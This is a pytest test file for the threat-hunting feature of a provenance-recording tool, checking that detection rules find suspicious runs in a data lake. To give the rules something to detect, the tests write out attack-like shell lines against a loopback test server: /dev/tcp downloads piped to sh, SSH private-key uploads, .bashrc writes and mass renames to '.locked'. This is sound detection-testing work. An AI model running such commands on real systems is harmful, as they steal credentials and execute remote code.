"""`hunt --lake` finds in a lake what `hunt` finds in the stores that were shipped to it."""

from __future__ import annotations

import contextlib
import json
import os
import random
import re
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from conftest import PACKAGE, Machine, answer, command
from invented import SECOND, Invented

from backstory_lake.batches import shell_words
from backstory_lake.lake import Lake
from backstory_lake.privacy import Config, Privacy
from backstory_lake.questions import Limits, Question
from backstory_lake.run_graphs import Request, RunGraphs

#: A program `backstory-lake` that keeps the answer.
WRAPPER = """#!/bin/sh
[ "$1" = graphs ] || exec {python} -m backstory_lake.cli "$@"
{python} -m backstory_lake.cli "$@" > "$HUNTER/answer"; status=$?
cat "$HUNTER/answer"
exit $status
"""

#: A program that keeps the request, and has an answer already.
STUB = """#!/bin/sh
cat > "$HUNTER/request"
cat "$HUNTER/answer"
"""


class Hunter:
    """The program, with the package beside it."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        self._answer = directory / "answer"
        for name, text in (("real", WRAPPER.format(python=sys.executable)), ("stub", STUB)):
            program = directory / name / "backstory-lake"
            program.parent.mkdir(parents=True)
            program.write_text(text)
            program.chmod(0o755)

    def run(
        self, *words: str, store: Path | None = None, package: str = "real"
    ) -> subprocess.CompletedProcess[str]:
        """Runs the program."""
        environment = os.environ | {
            "PATH": f"{self.directory / package}:{os.environ['PATH']}",
            "PYTHONPATH": str(PACKAGE),
            "HUNTER": str(self.directory),
            "HOME": str(self.directory),
        }
        if store is not None:
            environment["BACKSTORY_STORE"] = str(store)
        return subprocess.run(
            [os.environ["BACKSTORY_PROGRAM"], *words],
            capture_output=True,
            text=True,
            errors="surrogateescape",
            env=environment,
            check=False,
        )

    def request(self, *words: str) -> Request:
        """The request of a question."""
        self._answer.write_text("n,0,0,0\nend\n")
        self.run(*words, package="stub")
        return Request.read((self.directory / "request").read_text())

    def answered(self, lake: Path, request: Request, *words: str) -> list[str]:
        """The findings, if the package is asked for this. It runs in this process."""
        question = Question(Lake.open(str(lake)), Limits())
        with closing(question), self._answer.open("w") as out:
            RunGraphs(question, request).write(out)
        return essence(self.found(*words, package="stub"))

    def found(self, *words: str, **more: Any) -> list[dict[str, Any]]:
        """The findings of `hunt`, or the events of `timeline`."""
        ended = self.run(*words, "--json", **more)
        found: list[dict[str, Any]] = json.loads(ended.stdout)
        assert ended.returncode == int(not found), ended.stderr
        return found

    @property
    def chosen(self) -> tuple[int, int]:
        """Of the last question: the runs that were meant, and those that were read."""
        words = self._answer.read_text().split("\n", 1)[0].split(",")
        return int(words[1]), int(words[2])


@pytest.fixture
def hunter(tmp_path: Path) -> Hunter:
    return Hunter(tmp_path / "hunter")


def essence(findings: list[dict[str, Any]]) -> list[str]:
    """Findings or events without what differs: the place, the order and commands that go on."""
    own = {"host", "machine", "page", "next"}
    kept = ({key: one[key] for key in one if key not in own} for one in findings)
    return sorted(json.dumps(one, sort_keys=True) for one in kept)


def written(rules: list[dict[str, Any]], directory: Path) -> str:
    """Writes rules, which are YAML because they are JSON."""
    directory.mkdir(exist_ok=True)
    for rule in rules:
        (directory / f"{rule['id']}.yml").write_text(json.dumps(rule))
    return str(directory)


def rule(id: str, **detection: Any) -> dict[str, Any]:
    return {"title": id, "id": id, "detection": detection | {"condition": "of"}}


@contextmanager
def server() -> Iterator[int]:
    """A server on the loopback that answers each client, and takes what it sends."""
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def serve() -> None:
            while True:
                try:
                    peer, _ = listener.accept()
                except OSError:
                    return
                # A client may end without reading the answer.
                with peer, contextlib.suppress(OSError):
                    peer.sendall(b"true\n")
                    peer.shutdown(socket.SHUT_WR)
                    while peer.recv(4096):
                        pass

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield listener.getsockname()[1]
        listener.shutdown(socket.SHUT_RDWR)
    thread.join()


def lines(choice: random.Random, port: int, count: int) -> list[str]:
    """Lines of the shell, of which some do what the program's rules look for."""
    download = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3'"
    upload = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat >&3'"
    forms = [
        "echo x >> .bashrc",
        "mkdir -p .ssh; echo k > .ssh/id_rsa",
        f"cat .ssh/id_rsa | {upload}",
        f"{download} | sh",
        f"{download} > got.sh; sh got.sh",
        "for i in $(seq 25); do echo x > doc$i; done",
        "for i in $(seq 25); do mv doc$i doc$i.locked; done",
        f"{upload} < in; rm in",
        "echo b > in; echo 'a b' > 'a \"b\" c'; cat 'a \"b\" c' > $(printf 'x\\377')",
        "mkdir -p d; ln -sfn d l; echo x > d/t; cat l/t > out; cat d/t",
        "ln -f in in2; cat in2 >> out; printf 'tab\\there' > out",
        "cat out > last",
    ]
    drawn = forms + choice.choices(forms, k=count - len(forms))
    return [f"{line} 2>/dev/null" for line in drawn]


PATTERNS = [".bashrc", "/out", "/IN", "doc", "locked", "l/t", 'a "b" c', "x", "/d/", "%", "_"]
PATTERNS += ["'"]
PROGRAMS = ["/cat", "sh", "/mv", "/BASH", "/rm", "python"]
COMMANDS = ["cat in", "-c", "echo x", "mv doc", "<&3", "seq 25", "'a \"b\" c'"]
OPERATIONS = ["read", "write", "delete", "rename", "make", "exec", "send", "receive", "start"]


def selection(choice: random.Random) -> dict[str, Any]:
    """Some fields with values."""
    how = choice.choice(["|contains", "|endswith", "|startswith", "|contains|cased", ""])
    text = choice.choice(PATTERNS)
    star = f"*{text}*" if how == "" else text
    fields: list[tuple[str, Any]] = [
        ("Operation", choice.choice(OPERATIONS)),
        (f"TargetFilename{how}", star),
        ("TargetFilename|endswith|cased", [text, choice.choice(PATTERNS)]),
        ("Image|endswith", choice.choice(PROGRAMS)),
        ("ParentImage|contains", choice.choice(PROGRAMS)),
        ("CommandLine|contains", choice.choice(COMMANDS)),
        ("AncestorCommandLine|contains|all", choice.sample(COMMANDS, 2)),
        ("TargetKind", choice.choice(["file", "pipe", "socket", "directory"])),
        ("Existing", choice.choice(["true", "false"])),
        ("DestinationIp", ["127.0.0.1", "10.0.0.1"]),
        ("SourceFilename|contains", text),
        ("SuccessorFilename|exists", "true"),
        ("CurrentDirectory|contains", choice.choice(["work", "nowhere"])),
        ("TargetFilename|re", choice.choice(["rc$", "^/.*t$"])),
        ("Unexplained", "true"),
    ]
    return dict(choice.sample(fields, choice.randint(1, 2)))


def random_rule(choice: random.Random, at: int) -> dict[str, Any]:
    """A rule with one or two parts."""
    made: dict[str, Any] = {"title": f"r{at}", "id": f"r{at}"}
    detection = {"a": selection(choice), "b": selection(choice), "c": selection(choice)}
    conditions = ["a", "a or b", "a and not b", "a and (b or c)", "not a and b", "1 of them"]
    if choice.random() < 0.5:
        detection["condition"] = choice.choice(conditions)  # type: ignore[assignment]
    elif choice.random() < 0.8:
        made["correlation"] = {
            "type": "temporal_ordered",
            "rules": ["a", choice.choice(["b", "b and not c"])],
            "group-by": choice.choice(["process", "descendants", "flow", "run"]),
        }
    else:
        made["correlation"] = {
            "type": "event_count",
            "rules": "a",
            "group-by": choice.choice(["process", "descendants", "run"]),
            "timespan": "1m",
            "condition": {"gte": "3"},
        }
    return made | {"detection": detection}


def test_what_hunt_finds_in_stores_it_finds_in_their_lake(
    machine: Machine, lake: Path, hunter: Hunter, tmp_path: Path
) -> None:
    choice = random.Random(7)
    other = Machine(tmp_path / "other")
    (other.directory / "in").write_text("x\n")
    with server() as port:
        for line in lines(choice, port, 16):
            machine.record(line)
            if choice.random() < 0.3:
                other.record(line)
            if line.startswith("ln") or choice.random() < 0.2:
                # No recorded run explains it.
                (machine.directory / "out").write_text(f"outside {choice.random()}")
    rules = written([random_rule(choice, at) for at in range(80)], tmp_path / "rules")
    for one in (machine, other):
        one.ship(lake)
    words = ["hunt", "--rules", rules]
    expected = []
    for one in (machine, other):
        expected += hunter.found(*words, "--all", store=one.store)
    found = hunter.found(*words, "--lake", str(lake))
    assert essence(found) == essence(expected)
    matched = {one["rule"] for one in expected}
    own = {"startup-file-written", "secret-sent", "rename-storm", "output-changed-outside"}
    assert own <= matched and len(matched) > 20, matched
    places = set(answer(lake, "SELECT run, machine, host FROM runs"))
    assert {(one["run"], one["machine"], one["host"]) for one in found} <= places
    # Both machines of this test have one host name, so a text names the machine, too.
    text = hunter.run(*words, "--lake", str(lake), "--full").stdout
    assert re.search(r"run \w{8} of \S+ \(machine \S+\)", text)
    for subject in (str(machine.directory / "out"), str(other.directory), "127.0.0.1"):
        expected = []
        for one in (machine, other):
            ended = hunter.run("timeline", subject, "--json", store=one.store)
            expected += json.loads(ended.stdout or "[]")
        events = hunter.found("timeline", subject, "--lake", str(lake))
        assert essence(events) == essence(expected) and events, subject


def invented(seed: int, runs: int) -> Invented:
    """A lake of runs with few files each, whose names have all kinds of characters."""
    choice = random.Random(seed)
    made = Invented()
    names = ["/h/.bashrc", "/h/OUT", "/h/in", "/d/doc1", "/d/doc1.locked", "/d/l/t", '/a "b" c']
    names += ["/x%y_z", "/it's", "/É/x", "/tab\there", "/�", "pipe:1", '/h/a\'"b" c']
    for at in range(runs):
        began = at * SECOND
        number = made.run(f"run{at:05}", host=f"h{at % 3}", machine=f"m{at % 4}", started_ns=began)
        processes = []
        for _ in range(choice.randint(1, 3)):
            parent = choice.choice([None, *processes])
            program = choice.choice(["/bin/cat", "/bin/SH", "/usr/bin/mv", None])
            line = choice.choice(["cat in", "sh -c 'echo x'", "mv doc1 doc2", "$'a\\tb' -c", ""])
            row = {"parent": parent, "program": program, "command": line, "cwd": "/work"}
            processes.append(made.process(number, pid=len(processes) + 1, **row))
        for _ in range(choice.randint(1, 4)):
            kind = choice.choice(["file", "file", "socket", "directory"])
            path = choice.choice(names)
            if kind == "socket":
                path = choice.choice(["tcp:10.0.0.1:80", "tcp:127.0.0.1:53 (reply)", "unix:/x"])
            others = ["", None, "/h/.bashrc", "$'/tab\\there'", "'/it'\\''s' /h/out"]
            aliases = choice.choice(others)
            file = made.file(number, path, kind=kind, aliases=aliases, version=choice.randrange(2))
            for _ in range(choice.randint(0, 2)):
                since = began + choice.randrange(100)
                how = choice.choice(["read", "write", "delete", "rename", "make", "exec", "stat"])
                made.edge(choice.choice(processes), file, how, since, since + 5)
    return made


@pytest.mark.parametrize("seed", [0, *(pytest.param(n, marks=pytest.mark.long) for n in (1, 2))])
def test_no_finding_is_lost_because_a_run_is_not_read(
    lake: Path, hunter: Hunter, tmp_path: Path, seed: int
) -> None:
    invented(seed, 150).written(lake)
    choice = random.Random(seed)
    read = found = 0
    for at in range(15):
        rules = written([random_rule(choice, at)], tmp_path / f"rules{at}")
        words = ["hunt", "--lake", str(lake), "--rules", rules, "--rule", f"r{at}"]
        request = hunter.request(*words)
        every = hunter.answered(lake, replace(request, condition="true"), *words)
        assert hunter.chosen == (150, 150)
        assert hunter.answered(lake, request, *words) == every, rules
        read += hunter.chosen[1]
        found += len(every)
    assert found > 30 and read < 15 * 150 / 2, (found, read)


SERVER = """
import socket, subprocess, sys
listener = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(listener.getsockname())
peer, _ = listener.accept()
if sys.argv[1] == "before": subprocess.run(["sh", "-c", "true"])
client.sendall(b"x")
peer.recv(1)
if sys.argv[1] == "after": subprocess.run(["sh", "-c", "true"])
"""
NPM = "#!/bin/sh\ncase $1 in install) sh package/$2.sh ;; esac\n"


def cases(port: int) -> dict[str, tuple[str, str]]:
    """For each rule of the program a line of the shell that it finds, and a harmless one like it.

    The lines of a rule follow each other.
    """
    download = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3'"
    upload = f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat >&3'"
    documents = "for i in $(seq 25); do {}; done"
    return {
        "startup-file-written": ("echo x >> .bashrc", "echo x >> bashrc; cat .bashrc"),
        "download-run-by-shell": (f"{download} | sh", f"{download} | cat"),
        "secret-sent": (f"{upload} < .ssh/id_rsa", f"{upload} < .ssh/id_rsa.pub"),
        "shell-started-by-server": ("python3 server.py after", "python3 server.py before"),
        "build-input-from-network": (
            f"{download} > x.h; cp x.h y.c; ./cc1 y.c",
            f"{download} > x.h; ./cc1 z.c",
        ),
        "install-script-reads-keys": ("./npm install bad", "./npm install good"),
        "deleted-after-sent": (f"{upload} < in; rm in", f"{upload} < kept; rm other"),
        "rename-storm": (
            documents.format("mv doc$i doc$i.locked"),
            documents.format("mv doc$i.locked text$i"),
        ),
    }


def test_each_rule_of_the_program_finds_its_cases_though_other_runs_are_not_read(
    machine: Machine, lake: Path, hunter: Hunter
) -> None:
    for name, text in {
        "server.py": SERVER,
        "npm": NPM,
        "package/bad.sh": "cat .ssh/id_rsa > /dev/null\n",
        "package/good.sh": "cat .ssh/known_hosts > /dev/null\n",
        ".ssh/id_rsa": "secret\n",
        ".ssh/id_rsa.pub": "public\n",
        ".ssh/known_hosts": "hosts\n",
        "kept": "x\n",
        "other": "x\n",
        "z.c": "\n",
        **{f"doc{at}": "x\n" for at in range(1, 26)},
    }.items():
        file = machine.directory / name
        file.parent.mkdir(exist_ok=True)
        file.write_text(text)
    (machine.directory / "npm").chmod(0o755)
    # The program that a compiler's name stands for reads its argument.
    shutil.copy(shutil.which("cat") or "/bin/cat", machine.directory / "cc1")
    runs: dict[str, str] = {}
    with server() as port:
        for rule, lines in cases(port).items():
            runs[rule], _ = (machine.record(f"{line} 2>/dev/null") for line in lines)
    machine.record("sort kept > sorted")
    (machine.directory / "sorted").write_text("changed outside of all recordings\n")
    runs["output-changed-outside"] = machine.record("cat sorted")
    machine.ship(lake)
    listed = json.loads(hunter.run("hunt", "--list", "--json").stdout)
    assert sorted(runs) == sorted(one["rule"] for one in listed)
    for rule, run in runs.items():
        words = ["hunt", "--lake", str(lake), "--rule", rule]
        request = hunter.request(*words)
        every = hunter.answered(lake, replace(request, condition="true"), *words)
        found = hunter.answered(lake, request, *words)
        assert found == every and {json.loads(one)["run"] for one in found} == {run}, rule
        assert hunter.chosen[1] < hunter.chosen[0], rule


def test_a_rule_that_names_one_path_reads_the_runs_that_have_it(
    lake: Path, hunter: Hunter, tmp_path: Path
) -> None:
    made = invented(1, 60)
    rare = made.file(7, "/rare/Path", kind="file", version=1)
    made.edge(7 << 32, rare, "write", 6 * SECOND, 6 * SECOND)
    made.written(lake)
    for path, cased in (("/rare/Path", "|cased"), ("/RARE/path", "")):
        rules = written([rule("one", of={f"TargetFilename{cased}": path})], tmp_path / "rules")
        words = ["hunt", "--lake", str(lake), "--rules", rules, "--rule", "one"]
        assert [one["run"] for one in hunter.found(*words)] == ["run00006"]
        assert hunter.chosen == (60, 1)
    for more, runs in (
        (["--host", "h0"], 20),
        (["--since", "1970-01-01T00:00:30Z"], 30),
        (["--until", "1970-01-01T00:00:04Z", "--host", "h1", "--host", "h2"], 3),
        (["run00006", "run00008"], 2),
    ):
        hunter.run(*words, *more)
        assert hunter.chosen[0] == runs, more
    nothing = hunter.run(*words, "--host", "nowhere")
    assert (nothing.returncode, nothing.stdout) == (1, "nothing found: 1 rule, 0 runs\n")
    unknown = hunter.run(*words, "run9")
    assert (unknown.returncode, unknown.stderr) == (1, "backstory-lake: no run run9 in the lake\n")


def test_a_run_of_another_machine_explains_no_path_and_its_contents_do(
    lake: Path, hunter: Hunter
) -> None:
    made = Invented()

    def version(run: int, number: int, time: int, digest: str) -> None:
        process = made.process(run, command="cp", program="/bin/cp", pid=1)
        facts = {"device": 1, "inode": 5, "size": time, "modified_ns": time * SECOND, "born_ns": 0}
        file = made.file(run, "/out", version=number, digest=digest, changed_ns=0, **facts)
        made.edge(process, file, "write" if number else "read", 0, 1)

    def run(at: int, machine: str) -> int:
        ended = at * 10**6
        return made.run(f"run{at}", machine=machine, started_ns=at * SECOND, ended_us=ended)

    version(run(1, "m1"), 1, 1, "a")
    version(run(2, "m1"), 0, 50, "b")
    version(run(3, "m2"), 0, 60, "c")
    version(run(4, "m3"), 1, 4, "d")
    version(run(5, "m1"), 0, 70, "d")
    made.written(lake)
    found = hunter.found("hunt", "--lake", str(lake), "--rule", "output-changed-outside")
    assert [one["run"] for one in found] == ["run2"]


def test_erased_and_private_names_are_in_no_finding(
    machine: Machine, lake: Path, hunter: Hunter, tmp_path: Path
) -> None:
    machine.record("mkdir -p .ssh; ln -s .ssh open; echo x > .ssh/rc; cat open/rc; echo > .bashrc")
    gone = machine.record("echo y > .bashrc")
    key = tmp_path / "key"
    key.write_text("0123456789abcdef")
    config = Config(hashed=[f"{machine.directory}/.ssh/**"], key=key.read_bytes())
    machine.ship(lake, config=config)
    words = ["hunt", "--lake", str(lake), "--rule", "startup-file-written"]
    found = hunter.found(*words)
    assert {Path(one["steps"][0]["target"]).name for one in found} == {".bashrc"}
    assert len(found) == 2
    assert "rc'" not in json.dumps(found) and "/rc" not in json.dumps(found)
    names = answer(lake, "SELECT aliases FROM files WHERE aliases <> ''")
    assert all("rc" not in text for (text,) in names)
    assert command("forget", "--lake", str(lake), gone).returncode == 0
    assert gone not in [one["run"] for one in hunter.found(*words)]


def test_the_guides_question_has_the_addresses_of_exfil_and_origin(
    machine: Machine, lake: Path, hunter: Hunter
) -> None:
    with server() as port:
        connect = f"exec 3<>/dev/tcp/127.0.0.1/{port}"
        machine.record("cp in copy; gzip < copy > packed")
        machine.record(f"bash -c '{connect}; cat >&3' < packed")
        machine.record(f"bash -c '{connect}; cat <&3' > got; sort got > report")
    machine.ship(lake)
    guide = (PACKAGE.parent / "docs/howto/lake.md").read_text()
    sql = next(one for one in guide.split("```sql\n") if "AS address" in one).split(";\n")[0]
    back = sql.replace("'forth'", "'back'").replace("l.to_file", "l.from_file")
    back = back.replace("p.process = l.from_process", "p.process = l.to_process")
    for asked, question, name in (("exfil", sql, "in"), ("origin", back, "report")):
        path = str(machine.directory / name)
        expected = {one["address"] for one in hunter.found(asked, path, store=machine.store)}
        found = answer(lake, question.replace("/home/ann/plan", path))
        assert {row[0] for row in found} == expected == {f"tcp:127.0.0.1:{port}"}


def test_a_damaged_data_file_is_named(lake: Path, hunter: Hunter) -> None:
    invented(1, 5).written(lake)
    file = next((lake / "backstory").rglob("edges/data/**/*.parquet"))
    file.write_bytes(file.read_bytes()[:100])
    ended = hunter.run("hunt", "--lake", str(lake))
    assert (ended.returncode, ended.stdout) == (1, "")
    assert str(file) in ended.stderr and "restore it" in ended.stderr


def test_other_names_are_read_as_the_program_writes_them() -> None:
    line = r"/plain '/it'\''s' $'/tab\there\'\\' '/a b' $'/\303\251\377'"
    assert shell_words(line) == ["/plain", "/it's", "/tab\there'\\", "/a b", "/é�"]
    privacy = Privacy(Config(omitted=["/a b"], hashed=["/it's"], key=b"k" * 16))
    kept = privacy.hidden_names(line, False).split(" ")
    assert kept[0] == "/plain" and kept[1] == privacy.pseudonym("/it's") and len(kept) == 4
